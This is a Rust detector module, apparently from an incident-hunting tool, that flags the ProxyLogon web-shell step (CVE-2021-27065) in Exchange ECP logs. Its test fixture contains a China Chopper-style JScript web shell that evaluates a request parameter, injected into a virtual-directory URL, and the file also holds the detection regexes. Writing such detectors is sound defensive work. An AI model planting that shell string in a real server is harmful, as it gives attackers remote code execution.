//! CVE-2021-27065 in the ECP Server log: a `Set-*VirtualDirectory` cmdlet
//! whose URL value holds markup (the China Chopper script the attacker
//! later exports to disk as a web shell).
//!
//! Test-ProxyLogon.ps1 (after PR #386) runs, case-insensitively,
//! `Set-.+VirtualDirectory.+?(?=Url).+<\w+.*>(.*?)<\/\w+>.+?(?=VirtualDirectory)`.
//! Rust's regex has no look-around; for a yes/no match the look-aheads are
//! equivalent to the consuming form used in [`SCRIPT_RE`] (a look-ahead
//! followed by `.+` that must reach `<` consumes at least the looked-at
//! text). That regex needs a closing tag and a second `VirtualDirectory`
//! later on the line; our extension ([`EXTENDED_RE`]) flags any markup
//! opening in a URL value after the cmdlet, which also catches a script
//! cut by log truncation and lines without the trailing identity.

use crate::{excerpt, sources, LineDetector, LogContext, LogFamily};
use exhunt_core::{Finding, FindingKind, NextStep, Record, RuleSpec, Severity, Verdict};
use regex::bytes::Regex;

/// A `Set-*VirtualDirectory` cmdlet with markup in a URL value. Each hit's
/// title names the cmdlet; a match of only [`EXTENDED_RE`] cites CISA
/// instead of the script.
const SETVDIR: RuleSpec = RuleSpec {
    id: "proxylogon-27065-ecp-setvdir",
    title: "Set-*VirtualDirectory with a script in a URL: the web-shell step of ProxyLogon (CVE-2021-27065)",
    cves: &["CVE-2021-27065"],
    kind: FindingKind::Exploitation,
    verdict: Verdict::Exploited,
    severity: Severity::High,
    source: sources::PR386,
    next_step: Some(NextStep::WebshellWritten),
};

pub const SCRIPT_RE: &str =
    r"(?i)Set-.+VirtualDirectory.+?Url.*<\w+.*>(.*?)</\w+>.+VirtualDirectory";
pub const EXTENDED_RE: &str = r"(?i)Set-\w*VirtualDirectory.*?Url\W{0,6}=.*?<\s*\w+";

pub struct EcpSetVirtualDirectory {
    script: Regex,
    extended: Regex,
    cmdlet: Regex,
}

impl EcpSetVirtualDirectory {
    pub fn new() -> Self {
        EcpSetVirtualDirectory {
            script: Regex::new(SCRIPT_RE).expect("static regex"),
            extended: Regex::new(EXTENDED_RE).expect("static regex"),
            cmdlet: Regex::new(r"(?i)Set-\w*VirtualDirectory").expect("static regex"),
        }
    }
}

impl Default for EcpSetVirtualDirectory {
    fn default() -> Self {
        Self::new()
    }
}

impl LineDetector for EcpSetVirtualDirectory {
    fn family(&self) -> LogFamily {
        LogFamily::EcpServer
    }

    fn literals(&self) -> &[&'static str] {
        &["VirtualDirectory"]
    }

    fn check(&self, ctx: &LogContext<'_>, rec: &dyn Record, out: &mut Vec<Finding>) {
        let raw = rec.raw();
        let by_script = self.script.is_match(raw);
        if !by_script && !self.extended.is_match(raw) {
            return;
        }
        let cmdlet = self
            .cmdlet
            .find(raw)
            .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
            .unwrap_or_default();
        let mut f = Finding::from_spec(&SETVDIR, ctx.path).titled(format!(
            "{cmdlet} with a script in a URL: the web-shell step of ProxyLogon (CVE-2021-27065)"
        ));
        if !by_script {
            f = f.with_source(sources::CISA);
        }
        f.time = rec.time().map(str::to_string);
        f.line = Some(rec.line_no());
        f = f
            .with("cmdlet", cmdlet)
            .with("line", excerpt(raw, 600))
            .with(
                "predicate",
                if by_script {
                    "Test-ProxyLogon: Set-.+VirtualDirectory ... Url ... <tag>...</tag> ... VirtualDirectory"
                } else {
                    "exhunt: Set-*VirtualDirectory with markup in a *Url value (not matched by Test-ProxyLogon)"
                },
            );
        if let Some(ip) = rec
            .field("ClientIpAddress")
            .or_else(|| rec.field("ClientIp"))
        {
            f = f.with("ClientIpAddress", ip);
        }
        out.push(f);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testutil::MapRecord;
    use exhunt_core::ArtifactKind;

    fn run(line: &str) -> Vec<Finding> {
        let ctx = LogContext {
            path: "ECP/Server/x.log",
            kind: &ArtifactKind::EcpServerLog,
        };
        let mut out = Vec::new();
        EcpSetVirtualDirectory::new().check(&ctx, &MapRecord::line(line), &mut out);
        out
    }

    const SHELL: &str = r#"2021-03-03T06:49:53.772Z,EX01,ECP.Request,"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''EX01\OAB (Default Web Site)''"#;

    #[test]
    fn script_predicate_needs_trailing_virtualdirectory() {
        let with_tail = format!("{SHELL};S:ActivityContextData=Cmd=Set-OabVirtualDirectory");
        let f = run(&with_tail);
        assert_eq!(f.len(), 1);
        assert!(f[0].evidence["predicate"].starts_with("Test-ProxyLogon"));
        // The same command without a later "VirtualDirectory" escapes the
        // script's regex; the extended predicate still finds it.
        let f = run(SHELL);
        assert_eq!(f.len(), 1);
        assert!(f[0].evidence["predicate"].starts_with("exhunt"));
        assert_eq!(f[0].evidence["cmdlet"], "Set-OabVirtualDirectory");
    }

    #[test]
    fn admin_url_changes_are_quiet() {
        assert!(run("2021-02-01T10:00:00.000Z,EX01,ECP.Request,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''.Identity=''EX01\\OAB (Default Web Site)''\"").is_empty());
        assert!(run("2021-02-01T10:00:00.000Z,EX01,ECP.Request,\"S:CMD=Get-OwaVirtualDirectory.Identity=''x''\"").is_empty());
        assert!(run("2021-02-01T10:00:00.000Z,EX01,ECP.Request,\"S:CMD=Set-OwaVirtualDirectory.InternalUrl=''https://ex01/owa''.LogonFormat=''UserName''\"").is_empty());
    }
}
